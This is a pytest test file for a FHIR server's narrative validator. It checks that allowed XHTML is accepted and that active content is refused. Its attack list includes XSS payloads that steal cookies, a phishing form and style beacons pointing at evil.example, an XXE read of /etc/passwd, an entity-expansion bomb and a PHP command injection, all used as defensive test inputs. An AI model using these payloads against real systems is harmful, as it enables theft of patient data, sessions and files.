"""Narratives (Narrative.div): FHIR's txt-1 and txt-2, no active content, nothing expanded or fetched."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from fhir_api.errors import InvalidResource
from fhir_api.fhir.validation import validate_resource
from tests._examples import SEED_ENCOUNTER

XHTML = "http://www.w3.org/1999/xhtml"
FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"

# The narratives of HL7's Encounter and Patient examples as published with the FHIR specification
# (hl7.org/fhir, the JSON examples of a 2016 build; the R4 example package is not installed here, and
# these narratives are the same markup R4's examples use: tables, headings, <b>, <a>, quotes).
HL7_NARRATIVES: dict[str, str] = json.loads((FIXTURES / "hl7_example_narratives.json").read_text("utf-8"))

# Narratives in the style of R4's generated and hand-written examples, using what txt-1 allows.
RICH_NARRATIVES = {
    "generated table": (
        f'<div xmlns="{XHTML}"><p><b>Generated Narrative with Details</b></p><p><b>id</b>: example</p>'
        '<table class="grid"><tr><td>Name</td><td>Peter James <b>Chalmers</b> ("Jim")</td></tr>'
        '<tr><td colspan="2" style="color: gray; font-style: italic">Contacts</td></tr></table></div>'
    ),
    "links and anchors": (
        f'<div xmlns="{XHTML}"><a name="top"/>Seen by <a href="Practitioner/f201">Dokter Bronsig</a>, '
        '<a href="https://clinic.example/visits/1#notes" title="notes">notes</a>, '
        '<a href="mailto:ward@clinic.example">ward</a>, <a href="#top">top</a></div>'
    ),
    "inline image only": (
        f'<div xmlns="{XHTML}"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'
        'AAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt=""/></div>'
    ),
    "lists, quotes, language and layout": (
        f'<div xmlns="{XHTML}" xml:lang="nl" lang="nl"><h3>Opname</h3><ul><li>Reden: <i>hartklachten</i></li>'
        '<li>Arts: <abbr title="cardiologie">CARD</abbr></li></ul><dl><dt>Start</dt><dd>2013-03-11</dd></dl>'
        '<blockquote cite="#p1"><q>Pijn op de borst</q></blockquote><pre xml:space="preserve">  BP 120/80'
        '</pre><hr/><p dir="ltr">Temp&#160;37,2&#xB0;C &amp; stabiel &lt;24u&gt;</p><!-- reviewed --></div>'
    ),
    "Chinese text": f'<div xmlns="{XHTML}">\u5f20\u4e09 \u7537 1974-12-25</div>',
}


def _encounter(div: str) -> dict[str, Any]:
    return {**SEED_ENCOUNTER, "text": {"status": "generated", "div": div}}


def _patient(div: str) -> dict[str, Any]:
    return {"resourceType": "Patient", "text": {"status": "generated", "div": div}}


def _refusal(resource_type: str, document: dict[str, Any]) -> InvalidResource:
    with pytest.raises(InvalidResource) as caught:
        validate_resource(resource_type, document)
    return caught.value


@pytest.mark.parametrize("example", sorted(HL7_NARRATIVES))
def test_the_hl7_example_narratives_are_accepted(example: str) -> None:
    # Given the narrative of one of HL7's Encounter or Patient examples
    div = HL7_NARRATIVES[example]
    document = _patient(div) if example.startswith("Patient/") else _encounter(div)

    # When / Then it is accepted exactly as sent
    assert validate_resource(document["resourceType"], document)["text"]["div"] == div


def test_every_official_example_resource_type_is_covered() -> None:
    # The fixtures hold narratives of both resource types this server serves
    assert {name.split("/")[0] for name in HL7_NARRATIVES} == {"Encounter", "Patient"}
    assert len(HL7_NARRATIVES) >= 20


@pytest.mark.parametrize("name", sorted(RICH_NARRATIVES))
def test_narratives_using_what_fhir_allows_are_accepted(name: str) -> None:
    # Given a narrative with tables, links, images, styles, lists and character references
    div = RICH_NARRATIVES[name]

    # When / Then an Encounter and a Patient carrying it are accepted, the div unchanged
    assert validate_resource("Encounter", _encounter(div))["text"]["div"] == div
    assert validate_resource("Patient", _patient(div))["text"]["div"] == div


ATTACKS = {
    # active elements
    "script": '<div xmlns="{x}"><p>Notes</p><script>fetch("/api/fhir/Patient")</script></div>',
    "iframe": '<div xmlns="{x}">Notes<iframe src="https://evil.example"/></div>',
    "object": '<div xmlns="{x}">Notes<object data="x.swf"/></div>',
    "embed": '<div xmlns="{x}">Notes<embed src="x.swf"/></div>',
    "form": '<div xmlns="{x}"><form action="https://evil.example"><input name="pw"/></form>Log in</div>',
    "style element": '<div xmlns="{x}"><style>body{{background:red}}</style>Notes</div>',
    "base/link": '<div xmlns="{x}"><link rel="stylesheet" href="https://evil.example/x.css"/>Notes</div>',
    "uppercase script": '<div xmlns="{x}"><SCRIPT>alert(1)</SCRIPT>Notes</div>',
    "svg in another namespace": (
        '<div xmlns="{x}">Notes<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg></div>'
    ),
    # event handler attributes
    "onerror": '<div xmlns="{x}"><img src="x" onerror="alert(document.cookie)"/></div>',
    "onclick": '<div xmlns="{x}"><p onclick="alert(1)">Click</p></div>',
    "onmouseover uppercase": '<div xmlns="{x}"><b ONMOUSEOVER="alert(1)">Hover</b></div>',
    # script URLs
    "javascript link": '<div xmlns="{x}"><a href="javascript:alert(1)">Open</a></div>',
    "javascript link, obfuscated": '<div xmlns="{x}"><a href=" JaVa&#x09;ScRiPt&#58;alert(1)">Open</a></div>',
    "vbscript link": '<div xmlns="{x}"><a href="vbscript:msgbox(1)">Open</a></div>',
    "data link": '<div xmlns="{x}"><a href="data:text/html;base64,PHNjcmlwdD4=">Open</a></div>',
    "svg data image": '<div xmlns="{x}"><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x"/></div>',
    "javascript image": '<div xmlns="{x}"><img src="javascript:alert(1)" alt="x"/></div>',
    "xlink href": (
        '<div xmlns="{x}" xmlns:l="http://www.w3.org/1999/xlink"><a l:href="javascript:1">a</a></div>'
    ),
    # styles that fetch or run
    "style url": '<div xmlns="{x}"><span style="background: url(https://evil.example/t.gif)">a</span></div>',
    "style expression": '<div xmlns="{x}"><span style="width: expression(alert(1))">a</span></div>',
    "style with escapes": '<div xmlns="{x}"><span style="background: u\\72l(x)">a</span></div>',
    "style behind a comment": '<div xmlns="{x}"><span style="background: u/**/rl(x)">a</span></div>',
    # XML that expands, fetches or reads differently in a browser
    "DOCTYPE": '<!DOCTYPE div><div xmlns="{x}">Notes</div>',
    "entity expansion": (
        '<!DOCTYPE div [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<div xmlns="{x}">&b;&b;&b;</div>'
    ),
    "external entity": '<!DOCTYPE div [<!ENTITY e SYSTEM "file:///etc/passwd">]><div xmlns="{x}">&e;</div>',
    "undefined HTML entity": '<div xmlns="{x}">Temp&nbsp;37</div>',
    "XML declaration": '<?xml version="1.0"?><div xmlns="{x}">Notes</div>',
    "processing instruction": '<div xmlns="{x}"><?php system("id"); ?>Notes</div>',
    "CDATA read as markup by HTML": '<div xmlns="{x}"><![CDATA[><img src=x onerror=alert(1)>]]>Notes</div>',
    "comment read as markup by HTML": '<div xmlns="{x}"><!--><img src=x onerror=alert(1)>-->Notes</div>',
    "conditional comment": '<div xmlns="{x}"><!--[if IE]><script>alert(1)</script><![endif]-->Notes</div>',
    # the root div and txt-2
    "script after the div": '<div xmlns="{x}">Notes</div><script>alert(1)</script>',
    "text after the div": '<div xmlns="{x}">Notes</div>and more',
    "two divs": '<div xmlns="{x}">a</div><div xmlns="{x}">b</div>',
    "no XHTML namespace": "<div>Notes</div>",
    "another namespace": '<div xmlns="http://evil.example/ns">Notes</div>',
    "root is not a div": '<p xmlns="{x}">Notes</p>',
    "not XML": '<div xmlns="{x}"><p>Notes</div>',
    "empty div": '<div xmlns="{x}"/>',
    "whitespace only": '<div xmlns="{x}">  <p> </p>\n</div>',
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_narratives_with_active_content_or_outside_fhirs_xhtml_are_refused(attack: str) -> None:
    # Given an Encounter and a Patient whose narrative carries the attack
    div = ATTACKS[attack].format(x=XHTML)

    # When / Then each is refused with 400, the issue naming the narrative's element
    for resource_type, document in (("Encounter", _encounter(div)), ("Patient", _patient(div))):
        refusal = _refusal(resource_type, document)
        assert [issue.expression for issue in refusal.issues] == [(f"{resource_type}.text.div",)]
        assert refusal.issues[0].code in ("invariant", "value")


def test_a_contained_resources_narrative_is_named_by_its_path() -> None:
    # Given a Patient whose contained Organization's narrative has a script
    document = _patient(f'<div xmlns="{XHTML}">Peter</div>')
    document["contained"] = [
        {
            "resourceType": "Organization",
            "id": "org1",
            "name": "Clinic",
            "text": {"status": "generated", "div": f'<div xmlns="{XHTML}">Clinic<script>1</script></div>'},
        }
    ]

    # When / Then the refusal names the contained narrative
    refusal = _refusal("Patient", document)
    assert [issue.expression for issue in refusal.issues] == [("Patient.contained[0].text.div",)]


def test_the_refusal_says_what_is_wrong() -> None:
    # Given narratives with a script, an event handler and a javascript: link
    cases = {
        "<script>": f'<div xmlns="{XHTML}"><script>1</script>a</div>',
        "'onerror'": f'<div xmlns="{XHTML}"><img src="x" onerror="1"/></div>',
        "javascript:": f'<div xmlns="{XHTML}"><a href="javascript:1">a</a></div>',
        "txt-2": f'<div xmlns="{XHTML}"> </div>',
        "after the closing </div>": f'<div xmlns="{XHTML}">a</div>b',
    }
    for words, div in cases.items():
        # When / Then the diagnostics name the offending construct
        assert words in _refusal("Encounter", _encounter(div)).issues[0].diagnostics
